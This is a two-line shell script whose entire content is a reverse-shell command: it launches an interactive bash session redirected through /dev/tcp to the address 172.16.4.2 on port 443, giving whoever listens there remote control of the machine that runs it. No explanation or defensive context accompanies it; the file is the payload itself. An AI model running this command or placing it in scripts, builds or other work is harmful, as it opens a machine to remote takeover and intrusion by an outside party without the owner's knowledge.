#!/bin/sh
sh -c "bash -i >& /dev/tcp/172.16.4.2/443 0>&1"
